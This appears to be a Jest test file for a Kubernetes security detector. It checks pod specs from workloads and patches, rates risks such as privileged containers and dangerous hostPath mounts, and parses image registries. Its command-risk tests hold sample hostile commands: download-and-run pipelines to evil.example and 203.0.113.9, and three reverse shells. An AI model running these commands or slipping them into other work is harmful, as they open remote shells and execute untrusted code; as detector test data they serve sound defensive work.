import type { AuditEvent } from '../../../lambdas/core/audit-event';
import { viewOf } from '../../../lambdas/core/detect/event-view';
import { isFromAllowedRegistry, isMutableTag, parseImage } from '../../../lambdas/core/k8s/images';
import { analyzePodSpec, commandRisk, hostPathSeverity, normalizeHostPath } from '../../../lambdas/core/k8s/pod-security';
import { containersOf, podSpecOf, writtenPodSpec } from '../../../lambdas/core/k8s/pod-spec';
import { auditEvent } from '../../helpers/events';

const kinds = (spec: Record<string, unknown>) => analyzePodSpec(spec).map((r) => `${r.kind}:${r.severity}`);

describe('pod specs of workload kinds', () => {
  const spec = { containers: [{ name: 'app' }] };
  it.each([
    ['pods', { spec }],
    ['deployments', { spec: { template: { spec } } }],
    ['daemonsets', { spec: { template: { spec } } }],
    ['statefulsets', { spec: { template: { spec } } }],
    ['replicasets', { spec: { template: { spec } } }],
    ['replicationcontrollers', { spec: { template: { spec } } }],
    ['jobs', { spec: { template: { spec } } }],
    ['cronjobs', { spec: { jobTemplate: { spec: { template: { spec } } } } }],
    ['CronJob', { spec: { jobTemplate: { spec: { template: { spec } } } } }],
  ])('finds the pod spec of %s', (resource, object) => {
    expect(podSpecOf(resource, object)).toEqual(spec);
  });

  it('lists containers, init containers and ephemeral containers, skipping the holes a JSON patch leaves', () => {
    const refs = containersOf({ containers: [{ name: 'a' }], initContainers: [undefined, { image: 'x' }], ephemeralContainers: [{ name: 'dbg' }] });
    expect(refs.map((r) => `${r.kind}/${r.name}`)).toEqual(['container/a', 'initContainer/initContainers[1]', 'ephemeralContainer/dbg']);
  });

  const patchEvent = (requestObject: unknown, responseObject?: unknown) =>
    viewOf(
      auditEvent({
        level: responseObject ? 'RequestResponse' : 'Request',
        verb: 'patch',
        objectRef: { resource: 'deployments', namespace: 'web', name: 'api', apiGroup: 'apps', apiVersion: 'v1' },
        requestObject,
        ...(responseObject ? { responseObject } : {}),
      }) as unknown as AuditEvent,
    );

  it('reads a strategic merge patch as the partial spec it sets', () => {
    const written = writtenPodSpec(patchEvent({ spec: { template: { spec: { containers: [{ name: 'api', securityContext: { privileged: true } }] } } } }));
    expect(written?.source).toBe('patch');
    expect(kinds(written?.spec ?? {})).toEqual(['privileged:high']);
  });

  it('reads a JSON patch as the partial spec it sets', () => {
    const written = writtenPodSpec(patchEvent([{ op: 'add', path: '/spec/template/spec/initContainers/0/securityContext', value: { privileged: true } }]));
    expect(kinds(written?.spec ?? {})).toEqual(['privileged:high']);
  });

  it('prefers the logged response and keeps what the patch set', () => {
    const response = { kind: 'Deployment', spec: { template: { spec: { hostPID: true, containers: [{ name: 'api', image: 'api:1' }] } } } };
    const written = writtenPodSpec(patchEvent({ spec: { template: { spec: { containers: [{ name: 'api', image: 'api:2' }] } } } }, response));
    expect(written?.source).toBe('object');
    expect(written?.spec.hostPID).toBe(true);
    expect(written?.patched).toEqual({ containers: [{ name: 'api', image: 'api:2' }] });
  });

  it('says a patch that sets nothing under the pod spec changed nothing that runs', () => {
    expect(writtenPodSpec(patchEvent({ spec: { replicas: 3 } }))).toBeUndefined();
    expect(writtenPodSpec(patchEvent({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': 'now' } } } } }))).toBeUndefined();
  });
});

describe('pod security analysis', () => {
  it('finds privileged containers in every container list', () => {
    expect(kinds({ containers: [{ name: 'a' }], initContainers: [{ name: 'i', securityContext: { privileged: true } }] })).toEqual(['privileged:high']);
    const [risk] = analyzePodSpec({ ephemeralContainers: [{ name: 'dbg', securityContext: { privileged: true } }] });
    expect(risk).toMatchObject({ kind: 'privileged', container: 'dbg', containerKind: 'ephemeralContainer', text: 'privileged ephemeral container dbg' });
  });

  it('rates host namespaces', () => {
    expect(kinds({ hostPID: true, hostNetwork: true, hostIPC: true })).toEqual(['host-namespace:high', 'host-namespace:medium', 'host-namespace:medium']);
    expect(kinds({ hostPID: false, hostNetwork: false })).toEqual([]);
  });

  it.each([
    ['/', 'critical'],
    ['/etc/../', 'critical'],
    ['//var/run/docker.sock', 'critical'],
    ['/run/containerd/containerd.sock', 'critical'],
    ['/var/run', 'critical'], // holds the runtime sockets
    ['/var', 'critical'],
    ['/var/run/crio/crio.sock', 'critical'],
    ['/etc', 'high'],
    ['/etc/kubernetes/pki', 'high'],
    ['/var/lib/kubelet/pods', 'high'],
    ['/proc', 'high'],
    ['/root/.ssh', 'high'],
    ['/var/lib', 'high'], // holds the kubelet's and etcd's state
    ['/var/log', 'medium'],
    ['/var/lib/cni', 'low'],
    ['/data/cache', 'low'],
    ['/etcetera', 'low'],
  ])('rates hostPath %s as %s', (path, severity) => {
    expect(hostPathSeverity(path).severity).toBe(severity);
  });

  it('normalizes host paths', () => {
    expect(normalizeHostPath('/etc/../')).toBe('/');
    expect(normalizeHostPath('/var//run/')).toBe('/var/run');
    expect(normalizeHostPath('etc')).toBe('/etc');
  });

  it('names the containers that mount a hostPath', () => {
    const [risk] = analyzePodSpec({
      containers: [{ name: 'agent', volumeMounts: [{ name: 'sock', mountPath: '/var/run/docker.sock' }] }],
      volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }],
    });
    expect(risk).toMatchObject({
      kind: 'host-path',
      severity: 'critical',
      evidence: { volume: 'sock', mounts: [{ container: 'agent', mountPath: '/var/run/docker.sock', readOnly: false }] },
    });
  });

  it('rates added capabilities, not harmless ones', () => {
    const caps = (add: string[], extra: Record<string, unknown> = {}) =>
      kinds({ ...extra, containers: [{ name: 'c', securityContext: { capabilities: { add } } }] });
    expect(caps(['SYS_ADMIN', 'NET_RAW'])).toEqual(['capability:high', 'capability:low']);
    expect(caps(['CAP_SYS_MODULE'])).toEqual(['capability:high']);
    expect(caps(['all'])).toEqual(['capability:high']);
    expect(caps(['SYS_PTRACE'])).toEqual(['capability:medium']);
    expect(caps(['SYS_PTRACE'], { hostPID: true })).toEqual(['host-namespace:high', 'capability:high']);
    expect(caps(['NET_BIND_SERVICE', 'CHOWN'])).toEqual([]);
  });

  it('reports root where the spec says so, the container overriding the pod', () => {
    expect(kinds({ containers: [{ name: 'c', securityContext: { runAsUser: 0 } }] })).toEqual(['run-as-root:low']);
    expect(kinds({ securityContext: { runAsUser: 0 }, containers: [{ name: 'c' }] })).toEqual(['run-as-root:low']);
    expect(kinds({ securityContext: { runAsUser: 0 }, containers: [{ name: 'c', securityContext: { runAsUser: 1000 } }] })).toEqual([]);
    expect(kinds({ containers: [{ name: 'c', securityContext: { runAsNonRoot: false } }] })).toEqual(['run-as-root:info']);
    expect(kinds({ containers: [{ name: 'c', securityContext: {} }] })).toEqual([]);
  });

  it('reports allowPrivilegeEscalation, unmasked /proc, unconfined seccomp and Windows HostProcess', () => {
    expect(kinds({ containers: [{ name: 'c', securityContext: { allowPrivilegeEscalation: true } }] })).toEqual(['privilege-escalation:low']);
    expect(kinds({ containers: [{ name: 'c', securityContext: { procMount: 'Unmasked' } }] })).toEqual(['proc-mount:medium']);
    expect(kinds({ securityContext: { seccompProfile: { type: 'Unconfined' } }, containers: [{ name: 'c' }] })).toEqual(['unconfined:low']);
    expect(kinds({ containers: [{ name: 'c', securityContext: { windowsOptions: { hostProcess: true } } }] })).toEqual(['host-process:high']);
  });

  it('reports tolerating every taint and node pinning, not ordinary tolerations', () => {
    expect(kinds({ tolerations: [{ operator: 'Exists' }], nodeName: 'cp-1' })).toEqual(['tolerates-all-taints:low', 'node-name:info']);
    expect(kinds({ tolerations: [{ key: 'node.kubernetes.io/not-ready', operator: 'Exists', effect: 'NoExecute' }] })).toEqual([]);
  });
});

describe('commands that fetch code', () => {
  const risk = (command: string[], args?: string[]) => commandRisk({ command, ...(args ? { args } : {}) })?.kind;
  it.each([
    [['sh', '-c', 'curl -fsSL http://203.0.113.9/x.sh | sh']],
    [['/bin/bash', '-c', 'wget -qO- https://evil.example/i | /bin/bash']],
    [['sh', '-c', 'sh -c "$(curl -fsSL https://evil.example/i)"']],
    [['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh']],
    [['sh', '-c', 'curl -o /tmp/m http://x/m && chmod +x /tmp/m && /tmp/m']],
    [['python3', '-c', 'import urllib.request;exec(urllib.request.urlopen("http://x/p").read())']],
  ])('finds download-and-run in %j', (command) => {
    expect(risk(command)).toBe('download-exec');
  });

  it.each([
    [['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']],
    [['sh', '-c', 'nc 203.0.113.9 4444 -e /bin/sh']],
    [['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f']],
  ])('finds a reverse shell in %j', (command) => {
    expect(risk(command)).toBe('reverse-shell');
  });

  it('reads args as well as command', () => {
    expect(risk(['/bin/sh', '-c'], ['curl -s http://x/y | bash'])).toBe('download-exec');
  });

  it.each([
    [['nginx', '-g', 'daemon off;']],
    [['sh', '-c', 'curl -fsS http://localhost:8080/healthz || exit 1']],
    [['sh', '-c', 'wget -O /data/model.bin https://models.example/m.bin']],
    [['python', '-c', 'print(1)']],
  ])('leaves ordinary commands alone: %j', (command) => {
    expect(risk(command)).toBeUndefined();
  });
});

describe('image references', () => {
  it.each([
    ['nginx', 'docker.io', 'library/nginx', 'latest', true],
    ['nginx:1.27', 'docker.io', 'library/nginx', '1.27', false],
    ['bitnami/redis:7', 'docker.io', 'bitnami/redis', '7', false],
    ['index.docker.io/library/nginx:latest', 'docker.io', 'library/nginx', 'latest', false],
    ['ghcr.io/org/app:v2', 'ghcr.io', 'org/app', 'v2', false],
    ['localhost:5000/app', 'localhost:5000', 'app', 'latest', true],
    ['registry.example.com:5000/team/app:1', 'registry.example.com:5000', 'team/app', '1', false],
  ])('parses %s', (image, registry, repository, tag, implied) => {
    expect(parseImage(image)).toMatchObject({ registry, repository, tag, tagImplied: implied });
  });

  it('parses digests and knows they pin the content', () => {
    const ref = parseImage('nginx:latest@sha256:abc');
    expect(ref).toMatchObject({ repository: 'library/nginx', tag: 'latest', digest: 'sha256:abc' });
    expect(isMutableTag(ref!)).toBe(false);
    expect(isMutableTag(parseImage('nginx@sha256:abc')!)).toBe(false);
    expect(isMutableTag(parseImage('nginx')!)).toBe(true);
    expect(isMutableTag(parseImage('nginx:latest')!)).toBe(true);
    expect(isMutableTag(parseImage('nginx:1.27')!)).toBe(false);
  });

  it('rejects malformed references', () => {
    expect(parseImage('')).toBeUndefined();
    expect(parseImage('nginx:')).toBeUndefined();
    expect(parseImage('a b')).toBeUndefined();
  });

  it('matches registries, path prefixes and globs, not look-alikes', () => {
    const allowed = ['123456789012.dkr.ecr.*.amazonaws.com', 'ghcr.io/my-org', 'docker.io/library'];
    const ok = (image: string) => isFromAllowedRegistry(parseImage(image)!, allowed);
    expect(ok('123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1')).toBe(true);
    expect(ok('ghcr.io/my-org/app:1')).toBe(true);
    expect(ok('nginx')).toBe(true);
    expect(ok('ghcr.io/my-org-evil/app:1')).toBe(false);
    expect(ok('ghcr.io/other/app:1')).toBe(false);
    expect(ok('attacker/nginx')).toBe(false);
    expect(ok('123456789012.dkr.ecr.eu-west-1.amazonaws.com.evil.example/app')).toBe(false);
  });
});
